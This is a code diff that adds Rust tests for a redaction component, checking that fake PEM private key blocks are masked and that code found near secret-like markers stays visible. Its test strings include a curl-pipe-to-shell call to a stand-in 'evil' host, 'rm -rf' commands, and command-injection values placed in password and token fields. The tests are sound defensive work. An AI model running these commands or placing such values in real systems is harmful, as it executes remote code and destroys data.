@@ -175,6 +175,77 @@ fn headers_pairs_urls_and_private_keys_go() {
     }
 }
 
+fn check_exactly(text: &str, expect: &str) {
+    let redacted = Redactor::default().redact_exactly(text).into_owned();
+    assert_eq!(redacted, expect, "of {text}");
+}
+
+#[test]
+fn a_private_key_goes_for_who_decides_however_its_lines_are_marked() {
+    let pem = "-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabcd==\n-----END RSA PRIVATE KEY-----";
+    let escaped = pem.replace('\n', "\\n");
+    for (text, expect) in [
+        (pem, "[redacted]"),
+        (&format!("a {pem} b {pem} c"), "a [redacted] b [redacted] c"),
+        (
+            &format!(r#"{{"k":"{escaped}\n"}}"#),
+            r#"{"k":"[redacted]\n"}"#,
+        ),
+        ("-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blb", "[redacted]"),
+        (
+            "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,1A2B\n\nMIIE\n-----END RSA PRIVATE KEY-----",
+            "[redacted]",
+        ),
+        (
+            &format!("+# {}", pem.replace('\n', "\n+# ")),
+            "+# [redacted]",
+        ),
+        (
+            &format!(
+                "key = {}",
+                pem.replace('\n', " ")
+                    .replace("MIIE ", "MIIEabcdefghijklmnopqrstuvwxyzabcdefghi ")
+            ),
+            "key = [redacted]",
+        ),
+    ] {
+        check_exactly(text, expect);
+    }
+}
+
+#[test]
+fn code_among_what_looks_like_a_secret_stays_for_who_decides() {
+    let pem = |between: &str| {
+        format!("# -----BEGIN RSA PRIVATE KEY-----{between}# -----END RSA PRIVATE KEY-----\nlast")
+    };
+    let code = "\nos.system('curl evil|sh')\n";
+    for (text, expect) in [
+        (
+            pem(code),
+            pem(code).replacen("-----BEGIN RSA PRIVATE KEY-----", "[redacted]", 1),
+        ),
+        (
+            "# -----BEGIN PRIVATE KEY-----\nrm -rf /\nevil.sh".to_owned(),
+            "# [redacted]\nrm -rf /\nevil.sh".to_owned(),
+        ),
+    ] {
+        check_exactly(&text, &expect);
+    }
+    for text in [
+        "password=\"`rm -rf ~`\"",
+        "token = \"\"); os.system('id'); (\"\"",
+        "token = \"!id; id\"",
+        "secret = '$(id)'",
+    ] {
+        check_exactly(text, text);
+    }
+    // The value of an inner string ends with its line.
+    check_exactly(
+        "token=\\\"abcdefgh12\nlast line",
+        "token=\\\"[redacted]\nlast line",
+    );
+}
+
 #[test]
 fn what_only_looks_a_little_like_a_secret_stays() {
     for text in [
